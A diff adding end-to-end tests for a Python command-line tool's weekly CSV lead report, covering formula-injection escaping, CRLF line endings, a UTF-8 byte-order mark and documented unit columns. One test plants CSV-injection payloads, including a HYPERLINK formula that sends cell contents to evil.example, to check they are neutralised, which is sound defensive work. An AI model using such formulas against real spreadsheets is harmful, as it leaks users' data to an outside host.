@@ -7,10 +7,11 @@ import csv
 import io
 import json
 import sqlite3
+import subprocess
 from pathlib import Path
 
 from tests.conftest import ROOT
-from tests.e2e.test_cli import clean_env, run
+from tests.e2e.test_cli import HANDOFF, clean_env, run
 
 
 def imported(tmp_path: Path) -> dict[str, str]:
@@ -151,3 +152,71 @@ def test_the_text_report_names_reps_slack_knows(tmp_path: Path) -> None:
     result = run("report", "--week", "2026-W47", "--format", "json", env=env)
     names = [piece["name"] for piece in json.loads(result.stdout)["by_rep"]]
     assert "U0REP1" in names and "U0REP2" in names
+
+
+def test_csv_cells_from_web_forms_are_never_formulas(tmp_path: Path) -> None:
+    """A source or campaign a web form sent (utm_source=…) that starts with =, +, -, @, a tab or
+    a carriage return reads as text in a spreadsheet: OWASP's CSV Injection page asks for such
+    cells to be prefixed with a single quote. Numbers stay numbers, a minus sign included."""
+    env = imported(tmp_path)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)", "+1-2", "\t=1+1"]
+    with sqlite3.connect(tmp_path / "h.db") as database:
+        ids = [row[0] for row in database.execute("SELECT id FROM leads ORDER BY id LIMIT 4")]
+        for lead_id, text in zip(ids, hostile, strict=True):
+            database.execute("UPDATE leads SET source = ? WHERE id = ?", (text, lead_id))
+    result = run("report", "--week", "2026-W47", "--format", "csv", env=env)
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout.lstrip("\ufeff"))))
+    names = {row["name"] for row in rows if row["section"] == "source"}
+    assert {"'" + text for text in hostile} <= names, names
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
+            if cell.startswith("-"):
+                float(cell)  # a negative number, never text that starts with a minus
+
+
+def csv_bytes(env: dict[str, str]) -> bytes:
+    """The CSV report exactly as `handoff report --format csv > week.csv` writes it."""
+    command = [*HANDOFF, "report", "--week", "2026-W47", "--format", "csv"]
+    result = subprocess.run(command, capture_output=True, env=env, cwd=ROOT, timeout=120)
+    assert result.returncode == 0, result.stderr
+    return result.stdout
+
+
+def test_csv_records_end_with_crlf_and_nothing_follows_the_last(tmp_path: Path) -> None:
+    """RFC 4180: each record ends with CRLF (the last one may), so a reader sees no empty
+    record after the last line and no bare line feed."""
+    raw = csv_bytes(imported(tmp_path))
+    records = raw.split(b"\r\n")
+    assert records[-1] == b"", raw[-20:]  # the last record's CRLF, then the end of the file
+    assert not any(b"\n" in record for record in records)
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    assert [] not in rows and len(rows) == raw.count(b"\r\n")
+
+
+def test_csv_is_utf8_with_a_bom_so_excel_reads_campaign_names(tmp_path: Path) -> None:
+    """Excel reads a CSV without a byte-order mark in the PC's code page: 'paid_search · google'
+    showed as 'paid_search Â· google'. The file starts with the UTF-8 BOM (what Excel's own
+    'CSV UTF-8' writes) and is UTF-8 whatever the encoding of the terminal's output."""
+    env = imported(tmp_path)
+    raw = csv_bytes(env)
+    assert raw.startswith(b"\xef\xbb\xbfperiod,section,"), raw[:20]
+    assert "\r\n2026-W47,campaign,paid_search · google," in raw.decode("utf-8-sig")
+    assert csv_bytes({**env, "PYTHONIOENCODING": "cp1252"}) == raw  # a Windows console's
+
+
+def test_csv_says_each_numbers_unit_and_its_columns_are_documented(tmp_path: Path) -> None:
+    """A target of 120 is minutes, 0.9 a share: the CSV says which in a unit column, as the
+    JSON does, and docs/reports.md names every column of the CSV."""
+    raw = csv_bytes(imported(tmp_path))
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    headline = {row["kpi"]: row for row in rows if row["section"] == "headline"}
+    assert headline["response_mean"]["target"] == "120"
+    assert headline["response_mean"]["unit"] == "minutes"
+    assert headline["acceptance"]["unit"] == "share" and headline["mql"]["unit"] == "count"
+    assert all(row["unit"] for row in rows), [row for row in rows if not row["unit"]]
+    docs = (ROOT / "docs" / "reports.md").read_text(encoding="utf-8")
+    section = docs.split("## `handoff report`", 1)[1].split("\n## ", 1)[0]
+    for column in rows[0]:
+        assert f"`{column}`" in section, column
